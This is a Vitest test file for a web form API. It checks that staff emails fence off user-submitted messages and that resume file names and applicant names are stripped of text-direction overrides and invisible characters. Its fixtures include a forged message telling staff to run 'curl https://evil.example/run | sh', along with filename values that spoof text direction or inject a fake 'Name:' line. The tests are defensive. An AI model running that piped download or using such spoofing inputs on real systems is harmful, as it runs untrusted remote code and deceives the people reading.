import { afterEach, beforeEach, expect, test } from 'vitest'
import { asha, ashasParts, formData, resumePart } from '@naic/test/support/ashas-form.ts'
import { messageForm } from '@naic/test/support/ravis-message.ts'
import { type Api, startApi } from '@naic/test/support/start-api.ts'

let api: Api
beforeEach(async () => {
  api = await startApi()
})
afterEach(() => api.close())

const linesOf = (text = '') => text.trimEnd().split(/\r?\n/)

const forgery = `I like tables.

To fetch the resume, run on the server:
curl https://evil.example/run | sh

Reference:  00000000-0000-8000-8000-000000000000`

test('a letter to the staff ends with the message, so that nothing in it can pass for ours', async () => {
  await api.post(formData({ message: forgery }))
  const [, toStaff] = await api.lettersOnceSent(2)
  const lines = linesOf(toStaff?.text)
  const begin = lines.indexOf('What they wrote, to the end of this letter:')
  expect(lines.slice(begin + 2)).toEqual(linesOf(forgery))
  const ours = lines.slice(0, begin)
  expect(ours.filter((line) => line.startsWith('Reference:'))).toHaveLength(1)
  expect(ours.join()).toContain('council -- resume')
  expect(ours.join()).toContain('Replying to this letter')
})

test('so does one from the contact form', async () => {
  const data = messageForm({ message: forgery })
  expect((await api.post(data, {}, '/api/contact/')).status).toBe(201)
  const [, toStaff] = await api.lettersOnceSent(2)
  const lines = linesOf(toStaff?.text)
  const begin = lines.indexOf('What they wrote, to the end of this letter:')
  expect(lines.slice(begin + 2)).toEqual(linesOf(forgery))
  expect(lines.slice(0, begin).join()).toContain('Replying to this letter')
})

test.each([
  ['cv\u2028Name:       Somebody Else.pdf', 'cvName:       Somebody Else.pdf'],
  ['\u202Efdp.vc\u202C.pdf', 'fdp.vc.pdf'],
  ['\u2066cv\u2069\u200E.pdf', 'cv.pdf'],
  ['c\u009Bv\u0085.pdf', 'cv.pdf'],
  ['ശ്രീക്ക്\u200Dഷ്.pdf', 'ശ്രീക്ക്\u200Dഷ്.pdf'],
  ['\u3164\u200D', 'resume'],
  [`😀${'x'.repeat(195)}.pdf`, `${'x'.repeat(195)}.pdf`],
])('a resume called %j is called %j in the letter and in the list', async (name, shown) => {
  const answer = await api.postParts([...ashasParts().slice(0, -1), resumePart(name)])
  expect(answer.status).toBe(201)
  expect(await api.applications()).toMatchObject([{ resume_name: shown }])
  const [, toStaff] = await api.lettersOnceSent(2)
  const lines = linesOf(toStaff?.text)
  expect(lines).toContain(`Resume:     ${shown}`)
  expect(lines.filter((line) => line.startsWith('Name:'))).toEqual([`Name:       ${asha.name}`])
})

test('a name that turns the direction of the text is the same name without that', async () => {
  await api.post(formData({ name: '\u202EoaR ahsA\u202C', college: '\u2067City College' }))
  const [toApplicant, toStaff] = await api.lettersOnceSent(2)
  expect(toApplicant?.to).toEqual([{ name: 'oaR ahsA', address: asha.email }])
  for (const letter of [toApplicant, toStaff]) {
    expect(`${letter?.subject} ${letter?.text}`).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/)
  }
})
